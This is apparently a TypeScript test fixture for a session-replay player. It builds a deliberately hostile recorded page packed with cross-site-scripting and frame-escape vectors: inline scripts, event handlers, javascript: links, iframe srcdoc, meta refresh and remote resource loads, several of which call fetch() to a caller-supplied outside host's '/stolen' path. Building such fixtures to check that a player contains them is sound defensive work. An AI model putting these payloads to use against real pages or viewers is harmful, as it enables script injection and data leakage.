import type { ReplayEvent } from '@replayvault/player/messages';
import { makeSession, type MadeSession } from './make-session.ts';

let id = 0;
const text = (content: string) => ({ type: 3, textContent: content, id: ++id });
const element = (tagName: string, attributes: Record<string, string>, ...childNodes: unknown[]) => ({
  type: 2,
  tagName,
  attributes,
  childNodes,
  id: ++id,
});

/** A recording that nobody's recorder made: everything in it tries to run, to reach `outside` or to get away. */
export function hostileSession(sessionId: string, at: number, outside: string): MadeSession {
  const OUTSIDE = `${outside}/stolen`;
  const ESCAPE = `try{top.pwned=1}catch(e){};try{parent.pwned=1}catch(e){};fetch('${OUTSIDE}')`;
  id = 0;
  const body = element(
    'body',
    { onload: ESCAPE },
    element('h1', { onclick: ESCAPE, onmouseover: ESCAPE }, text('Hostile')),
    element('script', {}, text(ESCAPE)),
    element('script', { src: `${OUTSIDE}.js` }),
    element('img', { src: `${OUTSIDE}.png`, onerror: ESCAPE }),
    element('a', { href: `javascript:${ESCAPE}`, target: '_top' }, text('link')),
    element('a', { href: OUTSIDE, target: '_blank' }, text('window')),
    element('iframe', { srcdoc: `<script>${ESCAPE}</script>`, src: OUTSIDE }),
    element('object', { data: OUTSIDE }),
    element('embed', { src: OUTSIDE }),
    element('video', { src: `${OUTSIDE}.mp4`, autoplay: '' }),
    element('form', { action: OUTSIDE }, element('input', { autofocus: '', onfocus: ESCAPE })),
    element('div', { style: `background: url(${OUTSIDE}-style.png)` }, text('box')),
    element('svg', { onload: ESCAPE }, element('image', { href: `${OUTSIDE}.svg` })),
  );
  const head = element(
    'head',
    {},
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${OUTSIDE}` }),
    element('base', { href: OUTSIDE, target: '_top' }),
    element('link', { rel: 'stylesheet', href: `${OUTSIDE}.css` }),
    element('link', { rel: 'prefetch', href: OUTSIDE }),
    element(
      'style',
      {},
      text(`@import url(${OUTSIDE}-import.css); @font-face{font-family:x;src:url(${OUTSIDE}.woff)}`),
    ),
  );
  const node = { type: 0, childNodes: [element('html', {}, head, body)], id: ++id };
  const events: ReplayEvent[] = [
    { type: 4, timestamp: at, data: { href: `javascript:${ESCAPE}`, width: 1024, height: 600 } },
    { type: 2, timestamp: at + 1, data: { node, initialOffset: { top: 0, left: 0 } } },
    { type: 3, timestamp: at + 500, data: { source: 2, type: 2, id: 3, x: 5, y: 5 } },
    { type: 3, timestamp: at + 3_000, data: { source: 3, id: 1, x: 0, y: 0 } },
  ];
  return makeSession(sessionId, 's1', events, at, 1);
}
